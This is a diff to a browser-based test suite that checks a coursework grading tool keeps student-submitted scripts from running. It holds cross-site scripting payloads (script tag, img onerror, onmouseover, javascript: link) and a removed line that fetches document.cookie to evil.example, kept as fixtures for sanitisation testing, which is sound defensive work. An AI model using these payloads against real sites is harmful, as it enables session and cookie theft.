@@ -24,7 +24,7 @@ from coursework.grader import grade
 PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
 FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run"]
 MISSING = "no browser: install Chromium (Debian: apt install chromium), or run .venv/bin/playwright install chromium"
-RUN = "window.ran=1;fetch('http://evil.example/'+document.cookie)"
+RUN = "window.ran=1;fetch('http://evil.example/')"
 ATTACK = f"""\
 I saw a fall, $x^2 < 1$. <script>{RUN}</script><img src=x onerror="{RUN}"> <b onmouseover="{RUN}">bold</b>
 
@@ -187,6 +187,18 @@ def formgrader(marked, tmp_path_factory):
         finally:
             server.terminate()
             server.wait()
+
+
+def test_a_script_that_runs_is_noticed(browser):
+    """Else the tests below would prove nothing."""
+    visit = Visit(browser, "http://nowhere.example/")
+    visit.page.set_content(f"<p class='cleaned'><a href=\"javascript:{RUN}\">click</a></p>")
+    assert visit.nothing_ran()
+    visit.click_everything()
+    assert visit.page.evaluate("window.ran") == 1
+    assert visit.away
+    assert not visit.nothing_ran()
+    visit.context.close()
 
 
 def test_nothing_of_a_student_s_runs_in_formgrader_and_the_scheme_is_there(browser, formgrader, marked, first):
